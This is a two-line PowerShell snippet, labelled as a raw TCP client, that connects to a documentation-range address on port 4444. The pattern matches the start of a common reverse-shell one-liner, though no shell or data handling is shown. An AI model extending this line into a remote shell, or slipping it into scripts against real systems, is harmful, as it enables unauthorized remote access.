# A raw TCP client.
$client = New-Object System.Net.Sockets.TcpClient("198.51.100.9", 4444)
